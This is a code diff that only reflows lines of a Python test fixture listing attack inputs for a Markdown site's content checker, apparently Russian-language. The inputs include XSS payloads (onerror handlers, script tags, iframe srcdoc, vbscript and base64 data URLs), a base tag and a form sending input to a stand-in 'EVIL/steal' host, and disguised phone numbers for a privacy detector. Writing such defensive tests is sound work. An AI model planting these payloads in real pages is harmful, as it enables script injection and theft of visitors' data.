@@ -38,7 +38,12 @@ ATTACKS: dict[str, tuple[str, str, str | None, str | None]] = {
         "javascript: link",
     ),
     "escaped-backtick": ("", r"\`<img src=x onerror=alert(1)>\`", "атрибут onerror=", "onerror="),
-    "indented-fence": ("", "    ```\n<script>alert(1)</script>\n    ```", "<script> в тексте", "<script>"),
+    "indented-fence": (
+        "",
+        "    ```\n<script>alert(1)</script>\n    ```",
+        "<script> в тексте",
+        "<script>",
+    ),
     "iframe-srcdoc": (
         "",
         '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
@@ -71,7 +76,12 @@ ATTACKS: dict[str, tuple[str, str, str | None, str | None]] = {
         "<meta> в тексте страницы не допускается",
         "<meta>",
     ),
-    "base": ("", f'<base href="{EVIL}/">\n\n[Положение](../policy.md)', "<base> в тексте", "<base>"),
+    "base": (
+        "",
+        f'<base href="{EVIL}/">\n\n[Положение](../policy.md)',
+        "<base> в тексте",
+        "<base>",
+    ),
     "form": (
         "",
         f'<form action="{EVIL}/steal"><input name="q"><button>OK</button></form>',
@@ -122,7 +132,12 @@ ATTACKS: dict[str, tuple[str, str, str | None, str | None]] = {
         "ссылка javascript:",
         "javascript: link",
     ),
-    "vbscript": ("", '<a href="vbscript:msgbox(1)">Ссылка</a>', "ссылка vbscript:", "vbscript: link"),
+    "vbscript": (
+        "",
+        '<a href="vbscript:msgbox(1)">Ссылка</a>',
+        "ссылка vbscript:",
+        "vbscript: link",
+    ),
     "data-url": (
         "",
         "[Открыть](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
@@ -155,7 +170,12 @@ ATTACKS: dict[str, tuple[str, str, str | None, str | None]] = {
         "content marker",
     ),
     # Personal data: the one detector in `make check` and in the privacy gate.
-    "phone-with-nbsp": ("", "Звоните: 8&nbsp;928&nbsp;123&nbsp;45&nbsp;67.", "номер телефона", "phone"),
+    "phone-with-nbsp": (
+        "",
+        "Звоните: 8&nbsp;928&nbsp;123&nbsp;45&nbsp;67.",
+        "номер телефона",
+        "phone",
+    ),
     # Split by Markdown, the number is whole only in the built page (and in
     # its search entry and its PDF).
     "phone-split-by-bold": ("pdf: true", "Звоните: 8 928 **123 45 67**.", None, "phone"),
